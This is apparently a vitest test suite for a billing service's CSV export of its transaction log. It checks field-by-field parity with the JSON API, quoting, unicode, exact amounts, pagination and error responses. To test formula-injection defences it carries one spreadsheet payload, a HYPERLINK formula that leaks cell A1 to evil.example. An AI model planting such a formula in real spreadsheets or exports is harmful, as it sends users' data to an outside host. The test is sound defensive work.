/**
 * The activity log's CSV export on a real server: the same rows as `GET …/transactions` for every
 * filter, field by field, read back with a strict RFC 4180 reader; text that needs quoting,
 * unicode, neutralised formulas, exact amounts, more rows than one page, and the refusals, which
 * come as problem documents before any CSV.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvObjects } from './support/csv.js';
import {
  startTestServer,
  type Client,
  type HttpAnswer,
  type TestServer,
} from './support/server.js';

const COLUMNS = [
  'id',
  'at',
  'type',
  'status',
  'feature',
  'credits',
  'balanceAfter',
  'held',
  'user',
  'project',
  'model',
  'quantities',
  'draws',
  'holdId',
  'chargeId',
  'reason',
  'note',
  'metadata',
];
const MINUTE = 60_000;
/**
 * Rows are dated in the last three hours, a minute or more apart, so that `from` and `to` have
 * something to tell apart, and the pending hold (a week to live) never lapses during the suite.
 */
const BASE = Math.floor(Date.now() / MINUTE) * MINUTE - 180 * MINUTE;
const at = (minutes: number) => new Date(BASE + minutes * MINUTE).toISOString();
/** The same instant written with a UTC offset of `hours`, as a caller in that zone would. */
function withOffset(iso: string, hours: number): string {
  const local = new Date(Date.parse(iso) + hours * 3_600_000).toISOString().slice(0, 19);
  const sign = hours < 0 ? '-' : '+';
  return `${local}${sign}${String(Math.abs(hours)).padStart(2, '0')}:00`;
}

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
const MULTILINE = 'Zoë said, "retake it"\r\nsecond line\nthird, too';
const UNICODE = 'Ünïcødé 写真ブース 👩‍👩‍👧 مرحبا بالعالم שלום';
const AWKWARD_USER = 'ana, "the lead"';

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- rows as the JSON API answers them
type JsonRow = Record<string, any>;

/** Written independently of src/reports/csv.ts: what a spreadsheet must not run gets an apostrophe. */
const neutralised = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

/** The CSV record the export must write for a row of `GET …/transactions`. */
function expectedRecord(row: JsonRow): Record<string, string> {
  const text = (value: string | null) => neutralised(value ?? '');
  return {
    id: row.id,
    at: row.at,
    type: row.type,
    status: row.status,
    feature: text(row.feature),
    credits: row.credits,
    balanceAfter: row.balanceAfter,
    held: row.held,
    user: text(row.user),
    project: text(row.project),
    model: text(row.model),
    quantities: row.quantities === null ? '' : JSON.stringify(row.quantities),
    draws: (row.draws as { grantId: string; kind: string; credits: string }[])
      .map((draw) => `${draw.grantId}:${draw.kind}:${draw.credits}`)
      .join(';'),
    holdId: row.holdId ?? '',
    chargeId: row.chargeId ?? '',
    reason: text(row.reason),
    note: text(row.note),
    metadata: row.metadata === null ? '' : JSON.stringify(row.metadata),
  };
}

describe('CSV export of the activity log', () => {
  let server: TestServer;
  let root: Client;
  let viewer: Client;
  let org: string;
  let big: string;
  let other: string;
  let otherAdmin: Client;

  /** Every row of the JSON log for `query`, following the cursors. */
  async function jsonRows(orgId: string, query = ''): Promise<JsonRow[]> {
    const rows: JsonRow[] = [];
    let cursor: string | null = null;
    do {
      const path: string = `/v1/orgs/${orgId}/transactions?limit=1000${query ? `&${query}` : ''}${
        cursor ? `&cursor=${cursor}` : ''
      }`;
      const page = await root.get(path);
      expect(page.status, page.text).toBe(200);
      rows.push(...(page.body.data as JsonRow[]));
      cursor = page.body.nextCursor;
    } while (cursor);
    return rows;
  }

  async function exported(client: Client, orgId: string, query = ''): Promise<HttpAnswer> {
    return client.get(`/v1/orgs/${orgId}/transactions.csv${query ? `?${query}` : ''}`);
  }

  /** The export for `query` holds exactly the JSON log's rows for it, in its order. */
  async function expectSameRows(orgId: string, query: string, client = root): Promise<number> {
    const [json, csv] = await Promise.all([jsonRows(orgId, query), exported(client, orgId, query)]);
    expect(csv.status, csv.text.slice(0, 300)).toBe(200);
    const { header, rows } = csvObjects(csv.text);
    expect(header).toEqual(COLUMNS);
    expect(rows, query).toEqual(json.map(expectedRecord));
    return rows.length;
  }

  beforeAll(async () => {
    // Thousands of charges in a burst: above the default rate limit.
    server = await startTestServer({ TALLY_RATE_LIMIT: '100000' });
    root = server.client(server.rootKey);
    for (const [id, prices] of [
      ['image', [{ unit: 'action', credits: 8 }]],
      ['tokens', [{ unit: 'token', credits: '0.000001', per: 1 }]],
    ] as const) {
      const feature = await root.request('PUT', `/v1/features/${id}`, {
        body: { name: id, prices, effectiveAt: '2020-01-01T00:00:00Z' },
      });
      expect(feature.status, feature.text).toBe(200);
    }
    org = (await root.post('/v1/orgs', { name: 'Booths', at: at(0) })).body.id;
    big = (await root.post('/v1/orgs', { name: 'Big' })).body.id;
    other = (await root.post('/v1/orgs', { name: 'Elsewhere' })).body.id;
    viewer = server.client(
      (await root.post(`/v1/orgs/${org}/api-keys`, { name: 'viewer', role: 'viewer' })).body.secret,
    );
    otherAdmin = server.client(
      (await root.post(`/v1/orgs/${other}/api-keys`, { name: 'admin', role: 'admin' })).body.secret,
    );
    expect(
      (await root.post(`/v1/orgs/${org}/projects`, { id: 'wedding', name: 'Wedding' })).status,
    ).toBe(201);
    const allowance = await root.request('PUT', `/v1/orgs/${org}/allowances/capped`, {
      body: { credits: 1, period: 'total' },
    });
    expect(allowance.status, allowance.text).toBe(200);

    const write = async (path: string, body: Record<string, unknown>, status = 201) => {
      const answer = await root.post(`/v1/orgs/${org}${path}`, body);
      expect(answer.status, `${path}: ${answer.text}`).toBe(status);
      return answer.body;
    };
    await write('/grants', { kind: 'purchase', credits: '2000000', at: at(0), note: '+ top-up' });
    await write('/charges', { feature: 'image', user: 'ana', project: 'wedding', at: at(1) });
    await write('/charges', {
      feature: 'tokens',
      quantities: { token: 1 },
      user: AWKWARD_USER,
      model: 'gpt-4o',
      note: 'the smallest amount',
      at: at(2),
    });
    await write('/charges', {
      feature: 'tokens',
      quantities: { token: '1234567891234' },
      user: 'ana',
      model: 'gpt-4o',
      note: UNICODE,
      metadata: { job: 42, label: '=not a formula inside JSON', emoji: '🎉' },
      at: at(3),
    });
    const charged = await write('/charges', {
      feature: 'image',
      user: AWKWARD_USER,
      project: 'wedding',
      model: '@sdxl',
      note: FORMULA,
      at: at(24),
    });
    await write('/charges', { feature: 'image', status: 'failed', note: MULTILINE, at: at(25) });
    await write('/charges', { feature: 'image', user: 'capped', at: at(26) }, 402);
    const voided = await write('/holds', { feature: 'image', user: 'ana', at: at(27) });
    await write(
      `/holds/${voided.id}/void`,
      { reason: '-1 retries left, "cancelled"', at: at(28) },
      200,
    );
    const captured = await write('/holds', {
      feature: 'image',
      user: 'bo',
      model: 'sdxl',
      at: at(29),
    });
    await write(`/holds/${captured.id}/capture`, { at: at(30) }, 200);
    await write('/holds', {
      feature: 'image',
      user: 'bo',
      note: '\tstarts with a tab',
      at: at(48),
    });
    await write(`/charges/${charged.id}/refund`, { credits: 3, note: 'partly, sorry', at: at(49) });

    // More rows than one page, many of them in the same millisecond.
    expect(
      (await root.post(`/v1/orgs/${big}/grants`, { kind: 'purchase', credits: 100_000 })).status,
    ).toBe(201);
    for (let batch = 0; batch < 25; batch += 1) {
      const answers = await Promise.all(
        Array.from({ length: 100 }, (_, index) =>
          root.post(`/v1/orgs/${big}/charges`, {
            feature: 'image',
            user: `user-${index % 7}`,
            ...(index % 10 === 0 ? { note: `row ${batch * 100 + index}, ${UNICODE}` } : {}),
          }),
        ),
      );
      for (const answer of answers) expect(answer.status, answer.text).toBe(201);
    }
  });
  afterAll(async () => {
    await server.close();
  });

  it('answers a CSV attachment, UTF-8 without a byte order mark, CRLF line ends', async () => {
    const answer = await exported(viewer, org);
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toBe(
      `attachment; filename="${org}-transactions.csv"`,
    );
    expect(answer.text.startsWith('id,at,type,status,')).toBe(true);
    expect(answer.text.charCodeAt(0)).not.toBe(0xfeff);
    expect(answer.text.endsWith('\r\n')).toBe(true);
    // The days as the caller wrote them, whatever day it is in UTC.
    const dated = await exported(
      viewer,
      org,
      `from=${encodeURIComponent(at(24))}&to=${encodeURIComponent('2030-01-01T00:30:00+14:00')}`,
    );
    expect(dated.headers.get('content-disposition')).toBe(
      `attachment; filename="${org}-transactions-from-${at(24).slice(0, 10)}-to-2030-01-01.csv"`,
    );
    const to = await exported(viewer, org, `to=${encodeURIComponent(at(24))}`);
    expect(to.headers.get('content-disposition')).toBe(
      `attachment; filename="${org}-transactions-to-${at(24).slice(0, 10)}.csv"`,
    );
  });

  it('holds the rows of GET /transactions, field by field, for every filter', async () => {
    const all = await expectSameRows(org, '', viewer);
    expect(all).toBe((await jsonRows(org)).length);
    expect(new Set((await jsonRows(org)).map((row) => row.status))).toEqual(
      new Set(['succeeded', 'failed', 'refused', 'pending']),
    );
    const queries: [string, number | 'some'][] = [
      ['type=usage', 'some'],
      ['type=usage,refund', 'some'],
      ['type=hold,void', 'some'],
      ['type=grant', 1],
      ['status=failed', 'some'],
      ['status=refused', 1],
      ['status=pending,failed', 'some'],
      ['feature=tokens', 2],
      ['feature=image&status=succeeded', 'some'],
      [`user=${encodeURIComponent(AWKWARD_USER)}`, 'some'],
      ['user=ana&type=usage', 2],
      ['project=wedding', 'some'],
      ['model=gpt-4o', 2],
      [`model=${encodeURIComponent('@sdxl')}`, 'some'],
      [`from=${encodeURIComponent(at(24))}`, 'some'],
      [`to=${encodeURIComponent(at(24))}`, 'some'],
      [`from=${encodeURIComponent(at(2))}&to=${encodeURIComponent(at(3))}`, 1],
      [
        `from=${encodeURIComponent(withOffset(at(20), 1))}&to=${encodeURIComponent(withOffset(at(40), -5))}`,
        'some',
      ],
      [`type=usage&user=ana&from=${encodeURIComponent(at(2))}`, 1],
      ['user=nobody', 0],
      ['from=2030-01-01T00:00:00Z', 0],
    ];
    for (const [query, count] of queries) {
      const rows = await expectSameRows(org, query, viewer);
      if (count === 'some') {
        expect(rows, query).toBeGreaterThan(0);
        expect(rows, query).toBeLessThan(all);
      } else {
        expect(rows, query).toBe(count);
      }
    }
    // No rows: the header alone.
    expect((await exported(viewer, org, 'user=nobody')).text).toBe(`${COLUMNS.join(',')}\r\n`);
  });

  it('quotes commas, quotes and line breaks, keeps unicode, and neutralises formulas', async () => {
    const { rows } = csvObjects((await exported(viewer, org)).text);
    const byNote = (note: string) => rows.find((row) => row.note === note);
    expect(byNote(`'${FORMULA}`)).toMatchObject({
      user: AWKWARD_USER,
      project: 'wedding',
      model: "'@sdxl",
      credits: '-8',
    });
    expect(byNote(`'${MULTILINE}`)).toBeUndefined(); // starts with Z: left alone
    expect(byNote(MULTILINE)).toMatchObject({ status: 'failed', credits: '0' });
    expect(byNote(UNICODE)?.metadata).toBe(
      '{"job":42,"label":"=not a formula inside JSON","emoji":"🎉"}',
    );
    expect(byNote("'\tstarts with a tab")).toMatchObject({ type: 'hold', status: 'pending' });
    expect(byNote("'+ top-up")).toMatchObject({ type: 'grant', credits: '2000000' });
    expect(rows.find((row) => row.type === 'void')?.reason).toBe(`'-1 retries left, "cancelled"`);
    // The raw text: formulas never start a cell, quoted or not.
    const text = (await exported(viewer, org)).text;
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`);
    expect(text).not.toMatch(/(^|,|\r\n)"?[=+@]/);
    // Signed amounts stay numbers: no apostrophe before a minus sign.
    expect(rows.filter((row) => row.credits?.startsWith('-')).length).toBeGreaterThan(0);
    expect(rows.some((row) => row.credits?.startsWith("'"))).toBe(false);
  });

  it('writes amounts as exact decimals and instants in ISO 8601 UTC', async () => {
    const { rows } = csvObjects((await exported(viewer, org, 'feature=tokens')).text);
    expect(rows.map((row) => [row.credits, row.quantities])).toEqual([
      ['-1234567.891234', '{"token":"1234567891234"}'],
      ['-0.000001', '{"token":"1"}'],
    ]);
    expect(rows[0]?.draws).toMatch(/^grt_[^:;]+:purchase:1234567\.891234$/);
    expect(rows.map((row) => row.at)).toEqual([at(3), at(2)]);
    for (const row of rows) expect(row.at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
  });

  it('streams every row of a log longer than a page, newest first, each once', async () => {
    const count = await expectSameRows(big, '');
    expect(count).toBe(2501);
    const { rows } = csvObjects((await exported(root, big)).text);
    expect(new Set(rows.map((row) => row.id)).size).toBe(2501);
    const position = (row: Record<string, string> | undefined): [string, string] => [
      row?.at ?? '',
      row?.id ?? '',
    ];
    for (let index = 1; index < rows.length; index += 1) {
      const [newerAt, newerId] = position(rows[index - 1]);
      const [olderAt, olderId] = position(rows[index]);
      const newer = newerAt > olderAt || (newerAt === olderAt && newerId > olderId);
      expect(newer, `row ${index}`).toBe(true);
    }
    expect(await expectSameRows(big, 'user=user-3')).toBe(350);
  });

  it('refuses bad filters with a problem document and no CSV', async () => {
    const cases: [string, string][] = [
      ['type=usage,gift', 'type'],
      ['status=done', 'status'],
      ['from=yesterday', 'from'],
      ['to=2025-03-01', 'to'],
      ['from=2025-02-30T00:00:00Z', 'from'],
      [`feature=${'x'.repeat(65)}`, 'feature'],
    ];
    for (const [query, field] of cases) {
      const answer = await exported(viewer, org, query);
      expect(answer.status, query).toBe(400);
      expect(answer.headers.get('content-type'), query).toMatch(/^application\/problem\+json/);
      expect(answer.headers.get('content-disposition'), query).toBeNull();
      expect(answer.body, query).toMatchObject({ code: 'invalid_request', field });
    }
  });

  it('answers 401 without a key, and 404 for an unknown org or another org', async () => {
    const anonymous = await exported(server.client(), org);
    expect(anonymous.status).toBe(401);
    expect(anonymous.body.code).toBe('unauthenticated');
    const unknown = await exported(root, 'org_nope');
    expect(unknown.status).toBe(404);
    expect(unknown.body.code).toBe('unknown_org');
    const foreign = await exported(otherAdmin, org);
    expect(foreign.status).toBe(404);
    expect(foreign.body.code).toBe('unknown_org');
    expect(foreign.text).not.toContain('Booths');
    expect(foreign.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    // Their own org they may export.
    expect((await exported(otherAdmin, other)).status).toBe(200);
  });
});
